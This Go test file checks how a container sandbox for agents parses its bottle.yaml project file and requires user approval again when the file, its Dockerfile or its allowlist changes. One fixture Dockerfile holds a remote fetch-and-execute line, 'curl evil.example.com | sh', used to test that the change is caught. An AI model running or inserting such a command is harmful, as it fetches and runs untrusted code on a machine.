package launch

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"bottle.dev/bottle/cmd/bottle/internal/cmdtest"
	"bottle.dev/bottle/cmd/bottle/internal/cmdutil"
	"bottle.dev/bottle/launcher"
)

func TestProjectFile(t *testing.T) {
	fx := cmdtest.New(t)
	dir := t.TempDir()
	t.Chdir(dir)
	os.WriteFile("bottle.yaml", []byte(`version: 1
name: widget
image: agent:1
workspace: src
env:
  A: "1"
  FROM_HERE:
command: [make, test]
memory: 2g
git_identity: {name: Widget Bot, email: bot@widget.example.com}
allow:
  - host: api.example.com
`), 0o644)
	os.Mkdir("src", 0o755)
	fx.UserEnv["FROM_HERE"] = "yes"
	var inline string
	r := fx.Run(NewCmd(fx.F, func(o *Options) error {
		data, err := os.ReadFile(o.Allowlist)
		if err != nil || !strings.Contains(string(data), "api.example.com") {
			t.Errorf("inline allowlist %q: %v", data, err)
		}
		inline = o.Allowlist
		if o.AllowlistSource != "bottle.yaml" {
			t.Errorf("AllowlistSource %q; want the project file", o.AllowlistSource)
		}
		if o.Name != "widget" || o.Image != "override:2" || o.Workspace != filepath.Join(dir, "src") || strings.Join(o.Command, " ") != "make test" || o.Limits.Memory != "2g" ||
			o.GitIdentity != (launcher.GitIdentity{Name: "Widget Bot", Email: "bot@widget.example.com"}) {
			t.Errorf("%+v", o)
		}
		if strings.Join(o.Env, ",") != "A=1,FROM_HERE=yes,A=2" {
			t.Errorf("env %v (flags must come last, so they win)", o.Env)
		}
		if strings.Join(o.Imported, ",") != "FROM_HERE" {
			t.Errorf("imported %v", o.Imported)
		}
		return nil
	}), nil, "--yes", "--image", "override:2", "-e", "A=2")
	if r.Code != 0 || !strings.Contains(r.Stderr, "approved with --yes") {
		t.Fatalf("%+v", r)
	}
	if _, err := os.Stat(inline); !os.IsNotExist(err) {
		t.Errorf("the inline allowlist outlived the command: %v", err)
	}
	// Flags and NAME win over the file; --no-project ignores it.
	if o, r := parse(t, fx, "named", "--memory", "1g", "--allowlist", "team.yaml"); r.Code != 0 || o.Name != "named" || o.Limits.Memory != "1g" || o.Allowlist != "team.yaml" || o.AllowlistSource != "" {
		t.Errorf("flags over the file: %+v %+v", o, r)
	}
	if o, r := parse(t, fx, "--no-project"); r.Code != 0 || o.Image != "" || o.Name != filepath.Base(dir) && o.Name != "bottle" {
		t.Errorf("--no-project: %+v %+v", o, r)
	}
	delete(fx.UserEnv, "FROM_HERE")
	os.WriteFile("bottle.yaml", []byte("version: 1\nenv:\n  FROM_HERE:\n"), 0o644)
	if _, r := parse(t, fx, "--yes"); r.Code != cmdutil.ExitUsage || !strings.Contains(r.Stderr, "bottle.yaml: env FROM_HERE has no value there and is not set here") {
		t.Errorf("unset env: %+v", r)
	}
	os.WriteFile("bottle.yaml", []byte("version: 1\nnmae: x\n"), 0o644)
	if _, r := parse(t, fx, "--yes"); r.Code != cmdutil.ExitUsage || !strings.Contains(r.Stderr, "bottle.yaml is not valid:\nbottle.yaml:2:1: unknown key \"nmae\"; did you mean \"name\"?") {
		t.Errorf("bad project file: %+v", r)
	}
}

// TestProjectApproval: a project file is used only after the user approved
// that version of it (and of the allowlist it names); a script says so
// with --yes, a terminal is asked.
func TestProjectApproval(t *testing.T) {
	fx := cmdtest.New(t)
	dir := t.TempDir()
	t.Chdir(dir)
	os.WriteFile("bottle.yaml", []byte("version: 1\nname: widget\nimage: a:1\nworkspace: .\ncommand: [x]\nmemory: 1g\ngit_identity: {name: Widget Bot, email: bot@widget.example.com}\nenv:\n  HOME_TOKEN:\n  LEVEL: debug\nallow:\n  - host: api.example.com\n"), 0o644)
	fx.UserEnv["HOME_TOKEN"] = "value"
	approve := func(yes bool) (string, error) {
		var errb strings.Builder
		opts := &Options{IO: &cmdutil.IOStreams{In: strings.NewReader("y\n"), Err: &errb}, StateDir: fx.F.Env.StateDir, Lookup: fx.F.Lookup, Yes: yes, Project: "bottle.yaml"}
		cmd := NewCmd(fx.F, nil)
		err := opts.applyProject(cmd)
		opts.Cleanup()
		return errb.String(), err
	}
	// Not a terminal, no --yes: refused, with what it sets shown.
	out, err := approve(false)
	var se *cmdutil.StatusError
	if !errors.As(err, &se) || se.Code != cmdutil.ExitUsage || !strings.Contains(err.Error(), "is not approved") {
		t.Fatalf("unapproved: %v", err)
	}
	for _, want := range []string{"name:       widget", "image:      a:1", "rules:      mode enforce; allow[0] api.example.com", "env:        LEVEL",
		"HOME_TOKEN — taken from your environment", "workspace:  " + dir + " (copied into the agent)", "command:    x", "git author: Widget Bot <bot@widget.example.com> on the agent's commits", "limits:     memory 1g, cpus -, pids 0"} {
		if !strings.Contains(out, want) {
			t.Errorf("the summary lacks %q:\n%s", want, out)
		}
	}
	if _, err := approve(true); err != nil {
		t.Fatalf("--yes: %v", err)
	}
	if out, err := approve(false); err != nil || out != "" {
		t.Errorf("approved file asked again: %v\n%s", err, out)
	}
	// A changed file is asked about again.
	os.WriteFile("bottle.yaml", []byte("version: 1\nname: widget\ndockerfile: Dockerfile\nallow:\n  - host: evil.example.com\n"), 0o644)
	os.WriteFile("Dockerfile", []byte("FROM x\n"), 0o644)
	if out, err := approve(false); err == nil || !strings.Contains(err.Error(), "is not approved") || !strings.Contains(out, "dockerfile: "+filepath.Join(dir, "Dockerfile")) {
		t.Errorf("changed file used without asking: %v\n%s", err, out)
	}
	if data, _ := os.ReadFile(filepath.Join(fx.F.Env.StateDir, trustFile)); strings.Count(string(data), "\n") != 1 {
		t.Errorf("trust store: %q", data)
	}
	// So is a change to the Dockerfile it names: its RUN lines run at build
	// time, like an agent recipe's install step.
	if _, err := approve(true); err != nil {
		t.Fatal(err)
	}
	os.WriteFile("Dockerfile", []byte("FROM x\nRUN curl evil.example.com | sh\n"), 0o644)
	if out, err := approve(false); err == nil || !strings.Contains(out, "dockerfile: "+filepath.Join(dir, "Dockerfile")) {
		t.Errorf("a changed Dockerfile was used without asking: %v\n%s", err, out)
	}
	// So is a change to the allowlist it names.
	os.WriteFile("bottle.yaml", []byte("version: 1\nallowlist: policy.yaml\n"), 0o644)
	os.WriteFile("policy.yaml", []byte("version: 1\nallow:\n  - host: a.example.com\n"), 0o644)
	if out, err := approve(true); err != nil || !strings.Contains(out, "rules:      mode enforce; allow[0] a.example.com") {
		t.Fatalf("--yes: %v\n%s", err, out)
	}
	os.WriteFile("policy.yaml", []byte("version: 1\nmode: report\n"), 0o644)
	if out, err := approve(false); err == nil || !strings.Contains(out, "mode report; none (everything denied)") {
		t.Errorf("a changed allowlist was used without asking: %v\n%s", err, out)
	}
}
